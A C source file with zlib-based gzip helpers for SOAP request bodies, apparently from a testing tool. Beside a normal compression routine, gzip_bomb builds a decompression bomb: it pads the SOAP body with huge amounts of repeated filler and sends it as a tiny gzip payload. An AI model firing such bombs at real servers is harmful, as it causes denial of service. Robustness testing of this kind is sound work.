#include "gzip.h"

#include <string.h>

#define ZLIB_CONST
#include <zlib.h>

static const char filler[] = "<value>0</value>";

/* Feed bytes through the stream into out. */
static void
feed(z_stream *z, const char *data, size_t len, int flush, struct buf *out)
{
	unsigned char chunk[65536];

	z->next_in = (const unsigned char *)data;
	z->avail_in = (uInt)len;
	do {
		z->next_out = chunk;
		z->avail_out = sizeof(chunk);
		deflate(z, flush);
		buf_add(out, chunk, sizeof(chunk) - z->avail_out);
	} while (z->avail_out == 0);
}

static bool
begin(z_stream *z)
{
	memset(z, 0, sizeof(*z));
	/* 16: a gzip header instead of zlib's */
	return deflateInit2(z, Z_BEST_SPEED, Z_DEFLATED, 15 + 16, 8,
			    Z_DEFAULT_STRATEGY) == Z_OK;
}

bool
gzip_pack(struct buf *body)
{
	struct buf out;
	z_stream z;

	if (!begin(&z))
		return false;
	buf_init(&out, body->max);
	feed(&z, buf_str(body), body->len, Z_FINISH, &out);
	deflateEnd(&z);
	buf_fini(body);
	*body = out;
	return true;
}

void
gzip_bomb(struct buf *body, size_t unpacked_bytes)
{
	const char *text = buf_str(body);
	const char *tail = strstr(text, "\n</soapenv:Body>");
	size_t head = tail != NULL ? (size_t)(tail - text) : body->len;
	char block[16384];
	size_t n = 0;
	struct buf out;
	z_stream z;

	while (n + sizeof(filler) - 1 <= sizeof(block)) {
		memcpy(block + n, filler, sizeof(filler) - 1);
		n += sizeof(filler) - 1;
	}
	if (!begin(&z))
		return;
	buf_init(&out, body->max);
	feed(&z, text, head, Z_NO_FLUSH, &out);
	for (size_t done = 0; done < unpacked_bytes; done += n)
		feed(&z, block, n, Z_NO_FLUSH, &out);
	feed(&z, text + head, body->len - head, Z_FINISH, &out);
	deflateEnd(&z);
	buf_fini(body);
	*body = out;
}
